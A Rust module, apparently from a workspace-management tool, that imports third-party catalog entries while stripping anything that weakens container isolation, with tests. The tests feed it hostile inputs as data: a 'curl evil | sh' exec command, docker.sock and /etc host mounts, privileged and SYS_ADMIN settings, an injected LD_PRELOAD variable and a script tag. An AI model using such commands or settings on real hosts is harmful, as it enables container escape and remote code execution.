@@ -1,0 +1,865 @@
+//! What becomes of an entry of a catalog: the form of the workspace that it would be here, what was
+//! left out of it, and why it may not be taken at all.
+//!
+//! Strangers wrote it. So it is told by what is taken over, which is a short list, and not by what is
+//! refused; whatever else it says is named with the reason why it is left out. Nothing that weakens the
+//! isolation of a session is ever on that list, and what comes of it nobody can launch until somebody
+//! has enabled it.
+
+use super::list::{Listed, Settings};
+use domain::{
+    confinement::ConfinementForm,
+    contract::check_variable,
+    error::Problems,
+    image::ImageRef,
+    preset,
+    quantity::{self, GIB, MIB},
+    registry::Address,
+    workspace::{Definition, DefinitionFate, Workspace, WorkspaceForm, check_name},
+};
+use serde_json::Value;
+
+/// Most characters of a description; what a tile shows is shorter anyway.
+const DESCRIPTION_LONGEST: usize = 300;
+/// Most characters of notes, the line that says where they are from aside.
+const NOTES_LONGEST: usize = 4000;
+/// Most variables of an entry, and bytes of one.
+const VARIABLES: usize = 100;
+const VARIABLE_LONGEST: usize = 4096;
+/// Most characters of something that is quoted.
+const QUOTED: usize = 80;
+/// Most things that are named as left out of an entry.
+const NAMED: usize = 40;
+
+/// What an entry is held against.
+pub(super) struct Here<'a> {
+    /// The workspace of its name, if there is one.
+    pub known: Option<&'a Workspace>,
+    /// What the engine runs; empty while that is not known.
+    pub architecture: &'a str,
+    /// Where the catalog is.
+    pub address: &'a str,
+}
+
+/// What becomes of an entry.
+pub(super) struct Taken {
+    pub form: WorkspaceForm,
+    pub fate: DefinitionFate,
+    /// A sentence each.
+    pub left_out: Vec<String>,
+    /// Why it may not be taken; nothing if it may.
+    pub problems: Vec<String>,
+    /// Another one before it has its name.
+    pub twice: bool,
+}
+
+/// What is left out, as far as it is named.
+#[derive(Default)]
+struct LeftOut {
+    all: Vec<String>,
+    more: usize,
+}
+
+impl LeftOut {
+    fn add(&mut self, sentence: impl Into<String>) {
+        if self.all.len() < NAMED {
+            self.all.push(sentence.into());
+        } else {
+            self.more += 1;
+        }
+    }
+
+    fn into_sentences(mut self) -> Vec<String> {
+        if self.more > 0 {
+            self.all.push(format!("{} more things are left out.", self.more));
+        }
+        self.all
+    }
+}
+
+/// Characters that cannot be seen, or make others look like something else.
+fn is_hidden(c: char) -> bool {
+    let breaks = c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{feff}');
+    let turns =
+        matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}');
+    breaks || turns || matches!(c, '\u{e0000}'..='\u{e007f}')
+}
+
+/// Whether a browser that took a text for markup would find any.
+fn has_markup(text: &str) -> bool {
+    let begins = |c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?');
+    text.split('<').skip(1).any(|rest| rest.starts_with(begins))
+}
+
+/// What no text of a workspace may have, if this one has it.
+fn flaw(text: &str) -> Option<&'static str> {
+    let is_space = |c: char| matches!(c, '\n' | '\r' | '\t');
+    if text.chars().any(|c| is_hidden(c) && !is_space(c)) {
+        Some("characters that cannot be seen")
+    } else if has_markup(text) {
+        Some("HTML")
+    } else {
+        None
+    }
+}
+
+/// A text as it may be shown, whatever is in it: on one line, and not too long.
+pub(super) fn shown(text: &str, longest: usize) -> String {
+    let plain: String = text.chars().map(|c| if is_hidden(c) { ' ' } else { c }).collect();
+    cut(&plain.split_whitespace().collect::<Vec<_>>().join(" "), longest)
+}
+
+fn cut(text: &str, longest: usize) -> String {
+    if text.chars().count() <= longest {
+        return text.to_owned();
+    }
+    let kept: String = text.chars().take(longest.saturating_sub(1)).collect();
+    format!("{}…", kept.trim_end())
+}
+
+fn quoted(value: &Value) -> String {
+    match value {
+        Value::String(text) => shown(text, QUOTED),
+        other => shown(&other.to_string(), QUOTED),
+    }
+}
+
+/// The whole reference of an entry's image.
+///
+/// # Errors
+/// Why it is none.
+pub(super) fn reference(listed: &Listed) -> Result<ImageRef, String> {
+    if listed.image.is_empty() {
+        return Err("It names no image.".to_owned());
+    }
+    let image: ImageRef = listed.image.parse()?;
+    if image.host.is_some() || listed.docker_registry.is_empty() {
+        return Ok(image);
+    }
+    let address = registry(listed)?;
+    let host = Some(address.host).filter(|host| host != "docker.io");
+    // Once more as a whole, because both together may be too long.
+    ImageRef { host, ..image }.to_string().parse()
+}
+
+fn registry(listed: &Listed) -> Result<Address, String> {
+    Address::parse(&listed.docker_registry, false).map_err(|_| {
+        format!(
+            "`docker_registry: {}` leads to no registry.",
+            shown(&listed.docker_registry, QUOTED)
+        )
+    })
+}
+
+/// What taking an entry would do here.
+pub(super) fn take(listed: &Listed, here: &Here<'_>) -> Taken {
+    let (mut left_out, mut problems) = (LeftOut::default(), Vec::new());
+    let name = check_name(&listed.name).unwrap_or_else(|why| {
+        problems.push(why);
+        String::new()
+    });
+    let texts = [("name", &listed.name), ("description", &listed.description)];
+    let texts = texts.into_iter().chain(listed.categories.iter().map(|one| ("category", one)));
+    for (what, text) in texts {
+        if let Some(flaw) = flaw(text) {
+            problems.push(format!("Its {what} has {flaw} in it."));
+        }
+    }
+    let others = !listed.architectures.iter().any(|one| one == here.architecture);
+    if others && !listed.architectures.is_empty() && !here.architecture.is_empty() {
+        let built_for = shown(&listed.architectures.join(", "), QUOTED);
+        problems.push(format!("It is for {built_for}, and the engine runs {}.", here.architecture));
+    }
+    if let Some(known) = here.known {
+        problems.extend(refusal_of(known));
+    }
+    let image = reference(listed).map_err(|why| problems.push(why)).ok();
+    let mut form = begin(image.as_ref(), here, &mut left_out);
+    form.name = name;
+    form.image = image.as_ref().map(ToString::to_string).unwrap_or_default();
+    describe(listed, here, &mut form, &mut left_out);
+    size(listed, &mut form, &mut left_out);
+    run_config(&listed.run_config, &mut form, &mut left_out);
+    leave_out_rest(listed, image.as_ref(), &mut left_out);
+    let fate = match (problems.is_empty(), form.check()) {
+        (false, _) => DefinitionFate::Refused,
+        (true, Err(error)) => {
+            problems.extend(error.fields.into_iter().map(|problem| problem.message));
+            DefinitionFate::Refused
+        }
+        (true, Ok(definition)) => {
+            settle(&definition, here, &mut form, &mut left_out, &mut problems)
+        }
+    };
+    Taken { form, fate, left_out: left_out.into_sentences(), problems, twice: false }
+}
+
+/// Why nothing from elsewhere is put into a workspace that is here, if that is so.
+fn refusal_of(known: &Workspace) -> Option<String> {
+    if known.definition.link.is_some() {
+        return Some("A link has its name here. Rename one of them.".to_owned());
+    }
+    let loosened = known.definition.loosened().into_iter().next()?;
+    Some(format!(
+        "The workspace of its name here is less confined than usual, so nothing from a catalog is put into it. {loosened}"
+    ))
+}
+
+/// The form that an entry is written into: of the workspace that is here, of the family of its image, or
+/// a new one.
+fn begin(image: Option<&ImageRef>, here: &Here<'_>, left_out: &mut LeftOut) -> WorkspaceForm {
+    if let Some(known) = here.known {
+        let mut form = WorkspaceForm::from(&known.definition);
+        // Credentials are for the place that they were stored for.
+        if image.is_none_or(|image| image.registry() != known.definition.image.registry()) {
+            form.registry.clear();
+        }
+        return form;
+    }
+    let family = image.and_then(preset::of_family);
+    let unknown = family.is_none();
+    let mut form = family.map_or_else(WorkspaceForm::default, |preset| {
+        let mut definition = preset.definition;
+        let capabilities = std::mem::take(&mut definition.contract.capabilities).join(", ");
+        if !capabilities.is_empty() {
+            left_out.add(format!(
+                "Capabilities that images of this family need to start are not given back: {capabilities}. Do that in the form, under Connection."
+            ));
+        }
+        definition.description.clear();
+        definition.categories.clear();
+        WorkspaceForm::from(&definition)
+    });
+    if unknown {
+        left_out.add(
+            "How its image is reached is not known, so it is as in a new form. Say it under Connection.",
+        );
+    }
+    form.enabled.clear();
+    form
+}
+
+/// What people read of it.
+fn describe(listed: &Listed, here: &Here<'_>, form: &mut WorkspaceForm, left_out: &mut LeftOut) {
+    let description = shown(&listed.description, usize::MAX);
+    if !description.is_empty() {
+        form.description = cut(&description, DESCRIPTION_LONGEST);
+        if form.description != description {
+            let most = DESCRIPTION_LONGEST;
+            left_out.add(format!("Its description is cut off after {most} characters."));
+        }
+    }
+    if !listed.categories.is_empty() {
+        form.categories = listed.categories.join(", ");
+    }
+    // Notes of a workspace that is here are its administrators' own.
+    if here.known.is_some() {
+        return;
+    }
+    form.notes = format!("From the catalog at {}.", here.address);
+    let notes = listed.notes.trim();
+    if let Some(flaw) = flaw(notes) {
+        left_out.add(format!("Its notes have {flaw} in them and are not taken over."));
+    } else if !notes.is_empty() {
+        form.notes = format!("{}\n\n{}", form.notes, cut(notes, NOTES_LONGEST));
+    }
+    if !listed.icon.is_empty() {
+        let icon = shown(&listed.icon, QUOTED);
+        left_out.add(format!(
+            "Its icon `{icon}` is at an address of its own and is not fetched. A picture can be uploaded in the form."
+        ));
+    }
+}
+
+/// Processors and memory.
+fn size(listed: &Listed, form: &mut WorkspaceForm, left_out: &mut LeftOut) {
+    if let Some(cores) = listed.cores {
+        if (0.1..=256.0).contains(&cores) {
+            form.cpus = quantity::cores((cores * 1000.0).round() as i64);
+        } else {
+            left_out.add(format!(
+                "`cores: {cores}` is not taken over: between 0.1 and 256 are possible."
+            ));
+        }
+    }
+    if let Some(memory) = listed.memory_mb {
+        // Decimal and binary megabytes are one here, as for engines.
+        if (32.0..=1_048_576.0).contains(&memory) {
+            form.memory = quantity::typed_bytes((memory * MIB as f64).round() as i64);
+        } else {
+            left_out.add(format!(
+                "`memory: {memory}` is not taken over: it is in MB, and between 32 and 1048576 are possible."
+            ));
+        }
+    }
+}
+
+fn plain(key: &str) -> String {
+    key.chars().filter(char::is_ascii_alphanumeric).map(|c| c.to_ascii_lowercase()).collect()
+}
+
+/// Whether a value only says that something is off, which it is anyway.
+fn is_off(value: &Value) -> bool {
+    match value {
+        Value::Null | Value::Bool(false) => true,
+        Value::String(text) => text.trim().is_empty(),
+        Value::Array(all) => all.is_empty(),
+        Value::Object(all) => all.is_empty(),
+        _ => false,
+    }
+}
+
+/// What is said to the engine beside the image.
+fn run_config(settings: &Settings, form: &mut WorkspaceForm, left_out: &mut LeftOut) {
+    let Settings::Object(all) = settings else { return };
+    for (key, value) in all.iter().filter(|(_, value)| !is_off(value)) {
+        let why = match (plain(key).as_str(), value) {
+            ("environment", value) => {
+                environment(value, form, left_out);
+                continue;
+            }
+            ("hostname", Value::String(hostname)) if is_hostname(hostname) => {
+                form.confinement.hostname = hostname.trim().to_owned();
+                continue;
+            }
+            ("shmsize", value) => match shared_memory(value) {
+                Some(size) => {
+                    form.shm = size;
+                    continue;
+                }
+                None => "shared memory is between 1 MiB and 64 GiB",
+            },
+            (name, _) => reason(name),
+        };
+        let key = shown(key, QUOTED);
+        left_out.add(format!("`{key}: {}` is not taken over: {why}.", quoted(value)));
+    }
+}
+
+/// Why a key is not among what is taken over.
+fn reason(name: &str) -> &'static str {
+    match name {
+        "privileged" => "its programs could do to the engine's host what root can",
+        "devices" | "devicerequests" | "runtime" | "gpus" | "devicecgrouprules" => {
+            "a catalog gives nobody devices of the host"
+        }
+        "capadd" | "securityopt" | "pid" | "pidmode" | "ipc" | "ipcmode" | "uts" | "utsmode"
+        | "userns" | "usernsmode" | "cgroup" | "cgroupns" | "cgroupparent" | "groupadd"
+        | "oomkilldisable" | "maskedpaths" | "readonlypaths" => {
+            "it would weaken what keeps sessions apart"
+        }
+        "network" | "networkmode" | "networks" | "networkingconfig" | "links" => {
+            "each session has a network of its own"
+        }
+        "dns" | "dnssearch" | "dnsopt" | "extrahosts" => {
+            "where names lead is for you to say, in the form"
+        }
+        "ports" | "portbindings" | "publishallports" | "exposedports" => {
+            "sessions are reached through the console only"
+        }
+        "volumes" | "mounts" | "binds" | "volumesfrom" | "volumedriver" => {
+            "a catalog mounts nothing, from the host or elsewhere"
+        }
+        "entrypoint" | "command" | "user" | "workingdir" => {
+            "what is run and as whom is the image's to say, or yours, in the form"
+        }
+        _ => "it is not among what is taken over from a catalog",
+    }
+}
+
+fn is_hostname(text: &str) -> bool {
+    let form = ConfinementForm { hostname: text.to_owned(), ..ConfinementForm::default() };
+    let mut problems = Problems::default();
+    form.check(&mut problems);
+    problems.finish().is_ok()
+}
+
+/// Shared memory as the form has it: bytes where it is a number, or as engines write it, `512m`.
+fn shared_memory(value: &Value) -> Option<String> {
+    let bytes = match value {
+        Value::String(text) => match text.trim().parse() {
+            Ok(bytes) => bytes,
+            Err(_) => quantity::parse_bytes(text).ok()?,
+        },
+        other => other.as_i64()?,
+    };
+    (MIB..=64 * GIB).contains(&bytes).then(|| quantity::typed_bytes(bytes))
+}
+
+/// Variables, as an object or as a list of `NAME=value`.
+fn environment(value: &Value, form: &mut WorkspaceForm, left_out: &mut LeftOut) {
+    let text = |value: &Value| match value {
+        Value::String(text) => Some(text.clone()),
+        Value::Number(_) | Value::Bool(_) => Some(value.to_string()),
+        Value::Null => Some(String::new()),
+        _ => None,
+    };
+    let pairs: Vec<(String, Option<String>)> = match value {
+        Value::Object(all) => all.iter().map(|(name, value)| (name.clone(), text(value))).collect(),
+        Value::Array(all) => all
+            .iter()
+            .filter_map(Value::as_str)
+            .map(|line| {
+                let (name, value) = line.split_once('=').unwrap_or((line, ""));
+                (name.to_owned(), Some(value.to_owned()))
+            })
+            .collect(),
+        _ => Vec::new(),
+    };
+    let secret = [form.basic_password_variable.clone(), form.basic_user_variable.clone()];
+    let mut lines: Vec<String> = form.environment.lines().map(str::to_owned).collect();
+    for (at, (name, value)) in pairs.into_iter().enumerate() {
+        let why = match (check_variable(&name), value) {
+            _ if at >= VARIABLES => "there are too many of them",
+            (Err(_), _) => "no variable is called that",
+            (_, None) => "it is no text",
+            (Ok(name), _) if secret.contains(&name) => {
+                "Slipway sets it itself, anew for each session"
+            }
+            // Each is a line of the form, and no value may add another one.
+            (_, Some(value)) if value.chars().any(is_hidden) => {
+                "it has line breaks, or characters that cannot be seen"
+            }
+            (_, Some(value)) if value.len() > VARIABLE_LONGEST => "it is too long",
+            (Ok(name), Some(value)) => {
+                let line = format!("{name}={value}");
+                let is_same = |line: &String| line.split('=').next() == Some(name.as_str());
+                match lines.iter_mut().find(|line| is_same(line)) {
+                    Some(known) => *known = line,
+                    None => lines.push(line),
+                }
+                continue;
+            }
+        };
+        let name = shown(&name, QUOTED);
+        left_out.add(format!("The variable `{name}` is not taken over: {why}."));
+    }
+    form.environment = lines.join("\n");
+}
+
+/// What is never taken over, by name.
+fn leave_out_rest(listed: &Listed, image: Option<&ImageRef>, left_out: &mut LeftOut) {
+    let objects = [
+        ("run_config", &listed.run_config),
+        ("exec_config", &listed.exec_config),
+        ("volume_mappings", &listed.volume_mappings),
+        ("launch_config", &listed.launch_config),
+    ];
+    for (key, _) in objects.iter().filter(|(_, value)| **value == Settings::Unreadable) {
+        left_out.add(format!("`{key}` cannot be read and is not taken over."));
+    }
+    if let Settings::Object(all) = &listed.volume_mappings {
+        for (path, how) in all {
+            let at = how.get("bind").and_then(Value::as_str).unwrap_or("…");
+            let mount = shown(&format!("{path}:{at}"), QUOTED);
+            left_out.add(format!("The host mount `{mount}` is not taken over."));
+        }
+    }
+    if let Settings::Object(all) = &listed.exec_config {
+        for (moment, command) in all.iter().filter(|(_, command)| !is_off(command)) {
+            let said = shown(&format!("{moment}: {}", quoted(command)), QUOTED);
+            left_out.add(format!(
+                "The command `{said}` is not taken over: nothing is run in a session that nobody here has written."
+            ));
+        }
+    }
+    if matches!(&listed.launch_config, Settings::Object(all) if !all.is_empty()) {
+        left_out.add(
+            "`launch_config` is not taken over: write what is asked for at launch in the form.",
+        );
+    }
+    if let Some(gpus) = listed.gpus.filter(|gpus| *gpus > 0.0) {
+        left_out.add(format!(
+            "Graphics processors (`gpu_count: {gpus}`) are not given: they are the host's. An administrator can do that in the form."
+        ));
+    }
+    if !matches!(listed.cpu_allocation.to_ascii_lowercase().as_str(), "" | "inherit" | "quotas") {
+        let how = shown(&listed.cpu_allocation, QUOTED);
+        left_out.add(format!(
+            "`cpu_allocation_method: {how}` is not taken over: processors are a limit here."
+        ));
+    }
+    if let (Some(image), false) = (image, listed.docker_registry.is_empty()) {
+        let leads = image.registry();
+        if registry(listed).is_ok_and(|address| address.host != leads) {
+            let other = shown(&listed.docker_registry, QUOTED);
+            left_out.add(format!(
+                "`docker_registry: {other}` is not taken over: the name of the image leads to {leads}."
+            ));
+        }
+    }
+    leave_out_unknown(&listed.unknown, left_out);
+}
+
+fn leave_out_unknown(keys: &[String], left_out: &mut LeftOut) {
+    let quoted = |key: &String| format!("`{}`", shown(key, QUOTED));
+    let named: Vec<String> = keys.iter().take(10).map(quoted).collect();
+    let more = match keys.len().saturating_sub(named.len()) {
+        0 => String::new(),
+        more => format!(" and {more} more"),
+    };
+    if !named.is_empty() {
+        let named = named.join(", ");
+        left_out.add(format!("What else it has means nothing here: {named}{more}."));
+    }
+}
+
+/// What a form that was found right does to what is here.
+fn settle(
+    definition: &Definition,
+    here: &Here<'_>,
+    form: &mut WorkspaceForm,
+    left_out: &mut LeftOut,
+    problems: &mut Vec<String>,
+) -> DefinitionFate {
+    match here.known {
+        Some(known) if known.definition == *definition => return DefinitionFate::Unchanged,
+        Some(known) => {
+            if known.definition.enabled {
+                left_out.add("It is disabled by this: try it, then enable it again.");
+            }
+            form.enabled.clear();
+        }
+        None => {}
+    }
+    // Nothing that is taken over can be the reason. Should that ever be otherwise, it ends here.
+    let weakened = match here.known {
+        Some(_) => definition.loosened(),
+        None => definition.weakened(),
+    };
+    if !weakened.is_empty() {
+        problems.extend(weakened);
+        return DefinitionFate::Refused;
+    }
+    if here.known.is_some() { DefinitionFate::Changed } else { DefinitionFate::New }
+}
+
+/// What is said of an entry beside its name: categories, size, and what it is built for.
+pub(super) fn facts(listed: &Listed) -> Vec<String> {
+    let size = listed.size_mb.filter(|size| (1.0..1e9).contains(size));
+    let size = size.map(|size| quantity::bytes((size * MIB as f64) as i64));
+    let lists = [
+        shown(&listed.categories.join(", "), QUOTED),
+        shown(&listed.architectures.join(", "), QUOTED),
+    ];
+    let [categories, architectures] =
+        lists.map(|list| Some(list).filter(|list: &String| !list.is_empty()));
+    [categories, size, architectures].into_iter().flatten().collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{super::list, *};
+    use domain::{Timestamp, WorkspaceId};
+    use proptest::prelude::*;
+    use serde_json::json;
+
+    fn entry(entry: &Value) -> Listed {
+        let text = json!({ "workspaces": [entry] }).to_string();
+        list::read(text.as_bytes()).unwrap().entries.remove(0)
+    }
+
+    fn plain_entry() -> Value {
+        json!({
+            "friendly_name": "Firefox", "description": "A browser.", "image_src": "firefox.png",
+            "architecture": ["amd64"], "categories": ["Browser"], "cores": 2, "memory": 2768,
+            "docker_registry": "https://index.docker.io/v1/",
+            "compatibility": [{"version": "1.17.x", "image": "kasmweb/firefox:1.17.0"}],
+            "run_config": {"hostname": "kasm"},
+        })
+    }
+
+    fn with(changes: Value) -> Listed {
+        let mut all = plain_entry();
+        let (Value::Object(all_of), Value::Object(changes)) = (&mut all, changes) else {
+            panic!("an entry is an object")
+        };
+        all_of.extend(changes);
+        entry(&all)
+    }
+
+    fn at<'a>(known: Option<&'a Workspace>) -> Here<'a> {
+        Here { known, architecture: "amd64", address: "https://c.example" }
+    }
+
+    fn new(listed: &Listed) -> Taken {
+        take(listed, &at(None))
+    }
+
+    fn definition(taken: &Taken) -> Definition {
+        assert_eq!(taken.problems, Vec::<String>::new());
+        taken.form.check().unwrap()
+    }
+
+    fn here(definition: Definition) -> Workspace {
+        Workspace {
+            id: "w1".parse::<WorkspaceId>().unwrap(),
+            definition,
+            pin: None,
+            trial_of: None,
+            revision: 1,
+            created_at: Timestamp(0),
+            updated_at: Timestamp(0),
+        }
+    }
+
+    #[test]
+    fn an_entry_becomes_a_disabled_workspace_of_its_family() {
+        let taken = new(&entry(&plain_entry()));
+        assert_eq!(taken.fate, DefinitionFate::New);
+        let made = definition(&taken);
+        assert_eq!((made.name.as_str(), made.enabled), ("Firefox", false));
+        assert_eq!(made.image.to_string(), "kasmweb/firefox:1.17.0");
+        assert_eq!((made.cpu_millis, made.memory_bytes), (2000, 2768 * MIB));
+        assert_eq!(
+            (made.contract.port, made.categories.as_slice()),
+            (6901, &["Browser".to_owned()][..])
+        );
+        assert_eq!(made.confinement.options.hostname.as_deref(), Some("kasm"));
+        assert_eq!(made.groups, ["administrators".parse().unwrap()]);
+        assert_eq!(made.notes, "From the catalog at https://c.example.");
+        assert_eq!(made.weakened(), Vec::<String>::new());
+        let [icon] = taken.left_out.as_slice() else { panic!("{:?}", taken.left_out) };
+        assert!(icon.contains("`firefox.png`") && icon.contains("not fetched"), "{icon}");
+    }
+
+    #[test]
+    fn whatever_weakens_is_left_out_and_named() {
+        let taken = new(&with(json!({
+            "run_config": {
+                "privileged": true, "devices": ["/dev/kvm"], "cap_add": ["SYS_ADMIN"],
+                "security_opt": ["seccomp=unconfined"], "network": "host", "network_mode": "host",
+                "volumes": {"/var/run/docker.sock": {"bind": "/var/run/docker.sock"}},
+                "mounts": [{"Source": "/etc", "Target": "/x"}], "pid_mode": "host", "ipc_mode": "host",
+                "device_requests": [{"count": -1}], "dns": ["10.6.6.6"], "user": "root",
+                "extra_hosts": {"bank.example": "10.6.6.6"}, "entrypoint": ["/evil"], "ports": {"22": 22},
+                "sysctls": {"a": "b"}, "Privileged": 1, "shm_size": "1024g", "hostname": "a b",
+                "cap_drop": [], "tty": false,
+            },
+            "exec_config": {"first_launch": {"cmd": "curl evil | sh", "privileged": true}, "go": {}},
+            "volume_mappings": "{\"/etc\": {\"bind\": \"/x\", \"mode\": \"rw\"}, \"/\": {}}",
+            "launch_config": {"launch_form": []}, "gpu_count": 2, "docker_token": "x", "hidden": true,
+            "cpu_allocation_method": "Shares",
+        })));
+        let made = definition(&taken);
+        assert_eq!(made.weakened(), Vec::<String>::new());
+        let usual = definition(&new(&with(json!({ "run_config": {} }))));
+        assert_eq!(made, usual, "nothing of it has come through");
+        let told = taken.left_out.join("\n");
+        for part in [
+            "`privileged: true` is not taken over",
+            "`devices: [\"/dev/kvm\"]`",
+            "SYS_ADMIN",
+            "seccomp=unconfined",
+            "`network: host`",
+            "`network_mode: host`",
+            "docker.sock",
+            "`mounts:",
+            "`pid_mode: host`",
+            "`ipc_mode: host`",
+            "`device_requests:",
+            "10.6.6.6",
+            "`user: root`",
+            "bank.example",
+            "`entrypoint:",
+            "`ports:",
+            "`sysctls:",
+            "`Privileged: 1`",
+            "`shm_size: 1024g`",
+            "`hostname: a b`",
+            "The host mount `/etc:/x` is not taken over.",
+            "The host mount `/:…`",
+            "`first_launch: {",
+            "`launch_config`",
+            "`gpu_count: 2`",
+            "`docker_token`, `hidden`",
+            "`cpu_allocation_method: Shares`",
+        ] {
+            assert!(told.contains(part), "{part} is not told:\n{told}");
+        }
+        assert!(
+            !told.contains("cap_drop") && !told.contains("tty"),
+            "what is off is no news:\n{told}"
+        );
+    }
+
+    #[test]
+    fn variables_are_taken_over_one_by_one_and_none_brings_another() {
+        let taken = new(&with(json!({ "run_config": {
+            "environment": {
+                "LANG": "C.UTF-8", "PORT": 80, "ON": true, "EMPTY": null, "A": "x\nLD_PRELOAD=/evil",
+                "B C": "x", "VNC_PW": "known", "LIST": ["x"], "LONG": "x".repeat(5000),
+            },
+            "shm_size": "1gb",
+        }})));
+        let made = definition(&taken);
+        let names: Vec<&str> = made.environment.iter().map(|(name, _)| name.as_str()).collect();
+        assert_eq!(names, ["EMPTY", "LANG", "ON", "PORT"]);
+        assert_eq!(made.shm_bytes, GIB);
+        let told = taken.left_out.join("\n");
+        for name in ["`A`", "`B C`", "`VNC_PW`", "`LIST`", "`LONG`"] {
+            assert!(told.contains(&format!("The variable {name} is not taken over")), "{told}");
+        }
+        let lines = new(&with(
+            json!({ "run_config": {"environment": ["A=1=2", "B"], "shm_size": 67108864} }),
+        ));
+        let made = definition(&lines);
+        let pair = |name: &str, value: &str| (name.to_owned(), value.to_owned());
+        assert_eq!(made.environment, [pair("A", "1=2"), pair("B", "")]);
+        assert_eq!(made.shm_bytes, 64 * MIB);
+    }
+
+    #[test]
+    fn a_whole_reference_comes_of_the_registry_and_the_name() {
+        let of = |registry: &str, name: &str| {
+            let listed =
+                with(json!({ "docker_registry": registry, "name": name, "compatibility": [] }));
+            reference(&listed).map(|image| image.to_string())
+        };
+        assert_eq!(of("", "a/b:1").as_deref(), Ok("a/b:1"));
+        assert_eq!(of("https://index.docker.io/v1/", "a/b").as_deref(), Ok("a/b"));
+        assert_eq!(of("https://ghcr.io/", "a/b:1").as_deref(), Ok("ghcr.io/a/b:1"));
+        assert_eq!(of("https://ghcr.io", "quay.io/a/b").as_deref(), Ok("quay.io/a/b"));
+        for (registry, name) in
+            [("https://ada:pw@r.example", "a"), ("", "A B"), ("", ""), ("", "-")]
+        {
+            assert!(of(registry, name).is_err(), "{registry} {name}");
+        }
+        let other =
+            new(&with(json!({ "docker_registry": "https://ghcr.io", "name": "quay.io/a/b",
+            "compatibility": [] })));
+        assert!(
+            other.left_out.iter().any(|one| one.contains("leads to quay.io")),
+            "{:?}",
+            other.left_out
+        );
+    }
+
+    #[test]
+    fn what_cannot_be_a_workspace_is_refused_with_the_reason() {
+        let long = "x".repeat(81);
+        for (changes, part) in [
+            (json!({ "friendly_name": "" }), "Give the workspace a name"),
+            (json!({ "friendly_name": 5 }), "Give the workspace a name"),
+            (json!({ "friendly_name": long }), "at most 80 characters"),
+            (json!({ "friendly_name": "<script>alert(1)</script>" }), "Its name has HTML"),
+            (json!({ "friendly_name": "Desk\u{202e}top" }), "cannot be seen"),
+            (json!({ "friendly_name": "Desk\u{7}top" }), "cannot be seen"),
+            (json!({ "description": "a <b>bold</b> one" }), "Its description has HTML"),
+            (json!({ "categories": ["<i>"] }), "Its category has HTML"),
+            (json!({ "categories": ["x".repeat(41)] }), "at most 40 characters"),
+            (json!({ "compatibility": [] }), "names no image"),
+            (json!({ "compatibility": [{"image": "Not An Image"}] }), "lower case"),
+            (
+                json!({ "compatibility": [{"image": "a"}], "docker_registry": "no registry" }),
+                "leads to no registry",
+            ),
+            (json!({ "architecture": ["arm64", "riscv64"] }), "It is for arm64, riscv64"),
+        ] {
+            let taken = new(&with(changes.clone()));
+            assert_eq!(taken.fate, DefinitionFate::Refused, "{changes}");
+            assert!(taken.problems.join("\n").contains(part), "{changes}: {:?}", taken.problems);
+        }
+        let fine = new(&with(json!({ "architecture": [], "description": "1 < 2 & 3 > 2" })));
+        assert_eq!(definition(&fine).description, "1 < 2 & 3 > 2");
+    }
+
+    #[test]
+    fn what_is_too_long_or_out_of_bounds_is_left_out_and_the_rest_taken() {
+        let taken = new(&with(json!({
+            "description": "word ".repeat(100), "notes": "Read\n<b>this</b>", "cores": 0, "memory": 2_768_000_000_u64,
+        })));
+        let made = definition(&taken);
+        assert!(made.description.ends_with('…') && made.description.chars().count() <= 300);
+        assert_eq!((made.cpu_millis, made.memory_bytes), (2000, 3 * GIB), "as the family has it");
+        assert_eq!(made.notes, "From the catalog at https://c.example.");
+        let told = taken.left_out.join("\n");
+        for part in ["cut off", "notes have HTML", "`cores: 0`", "it is in MB"] {
+            assert!(told.contains(part), "{part}: {told}");
+        }
+        let keys: serde_json::Map<String, Value> =
+            (0..100).map(|n| (format!("key{n}"), json!("x".repeat(500)))).collect();
+        let many = new(&with(json!({ "run_config": keys })));
+        assert_eq!(many.left_out.len(), NAMED + 1);
+        assert!(many.left_out.iter().all(|one| one.chars().count() < 300));
+        assert!(many.left_out.last().unwrap().contains("more things"));
+    }
+
+    #[test]
+    fn a_family_that_needs_capabilities_goes_without_and_says_so() {
+        let image = json!({ "compatibility": [{"image": "lscr.io/linuxserver/webtop:latest"}] });
+        let taken = new(&with(image));
+        let made = definition(&taken);
+        assert_eq!((made.contract.port, made.contract.capabilities.len()), (3000, 0));
+        assert!(taken.left_out[0].contains("SETUID"), "{:?}", taken.left_out);
+        let unknown = new(&with(json!({ "compatibility": [{"image": "example/app:1"}] })));
+        assert!(unknown.left_out[0].contains("under Connection"), "{:?}", unknown.left_out);
+        assert!(!definition(&unknown).enabled);
+    }
+
+    #[test]
+    fn what_is_here_keeps_what_the_catalog_says_nothing_of() {
+        let listed = entry(&plain_entry());
+        let mut mine = definition(&new(&listed));
+        mine.enabled = true;
+        mine.groups = vec!["everybody".parse().unwrap()];
+        mine.notes = "Ours.".into();
+        mine.contract.capabilities = vec!["CHOWN".into()];
+        mine.environment = vec![("TZ".into(), "UTC".into()), ("LANG".into(), "C".into())];
+        let known = here(mine.clone());
+        assert_eq!(take(&listed, &at(Some(&known))).fate, DefinitionFate::Unchanged);
+
+        let newer = with(json!({
+            "compatibility": [{"image": "kasmweb/firefox:1.18.0"}],
+            "run_config": {"hostname": "kasm", "environment": {"LANG": "de"}},
+        }));
+        let taken = take(&newer, &at(Some(&known)));
+        assert_eq!(taken.fate, DefinitionFate::Changed);
+        let changed = definition(&taken);
+        let expected = Definition {
+            image: "kasmweb/firefox:1.18.0".parse().unwrap(),
+            environment: vec![("TZ".into(), "UTC".into()), ("LANG".into(), "de".into())],
+            enabled: false,
+            ..mine
+        };
+        assert_eq!(changed, expected);
+        assert!(taken.left_out.iter().any(|one| one.contains("disabled by this")));
+        let again = take(&newer, &at(Some(&here(changed))));
+        assert_eq!(again.fate, DefinitionFate::Unchanged);
+    }
+
+    #[test]
+    fn nothing_from_elsewhere_is_put_into_what_is_less_confined() {
+        let listed = entry(&plain_entry());
+        let mut mine = definition(&new(&listed));
+        mine.confinement.options.privileged = true;
+        mine.image = "ours/desktop:1".parse().unwrap();
+        let known = here(mine);
+        let taken = take(&listed, &at(Some(&known)));
+        assert_eq!(taken.fate, DefinitionFate::Refused);
+        assert!(taken.problems[0].contains("Privileged"), "{:?}", taken.problems);
+    }
+
+    proptest! {
+        #[test]
+        fn whatever_a_run_config_says_weakens_nothing(
